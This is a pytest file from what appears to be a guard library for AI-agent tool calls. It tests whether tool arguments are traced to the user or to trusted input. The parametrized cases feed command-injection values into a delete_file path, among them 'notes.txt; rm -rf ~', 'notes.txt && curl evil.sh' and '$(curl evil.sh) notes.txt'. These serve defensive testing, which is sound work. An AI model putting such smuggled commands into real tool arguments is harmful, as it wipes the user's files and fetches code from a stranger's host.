"""A short text argument is the tool's whole value: what it holds besides a link is judged too.

By default a free-text value holding an address, a URL, an IBAN or a phone number is judged
by those (a model-written body is as trusted as the addresses in it). A path or a command
is no body: ``delete_file("notes.txt; rm -rf ~")`` deletes more than the ``notes.txt`` the
user named, though ``notes.txt`` reads as a link. A text value no longer than a target
(:data:`~guardagent.trace.predicates.naming.MAX_TARGET_CHARS`) is judged whole as well.
"""

from __future__ import annotations

import pytest

from tests.trace_helpers import facts, system, user

SAID = "Please delete notes.txt from my folder."


@pytest.mark.parametrize("path", ["notes.txt; rm -rf ~", "notes.txt && curl evil.sh",
                                  "$(curl evil.sh) notes.txt", "notes.txt other-file"])
def test_a_short_text_holding_a_link_is_judged_whole_too(path: str) -> None:
    f = facts([system(), user(SAID)], "delete_file", {"path": path})
    assert f.fact('arg_from_trusted("path")').value is False
    assert f.fact('arg_from_user("path")').value is False


def test_the_link_alone_and_a_long_body_keep_their_reading() -> None:
    f = facts([system(), user(SAID)], "delete_file", {"path": "notes.txt"})
    assert f.fact('arg_from_trusted("path")').value is True
    # a body over the target size is content: judged by the addresses inside it
    body = "Hi Bob, " + "the figures are in the attached sheet and look fine. " * 5 + "bob@x.ch"
    f = facts([system(), user("Mail bob@x.ch the summary.")], "send_email",
              {"to": "bob@x.ch", "body": body})
    assert f.fact('arg_from_user("body")').value is True
    # an address list with display names is its addresses
    f = facts([system(), user("Invite alice@x.org tomorrow.")], "create_event",
              {"participants": ["Alice <alice@x.org>"]})
    assert f.fact('arg_from_user("participants")').value is True
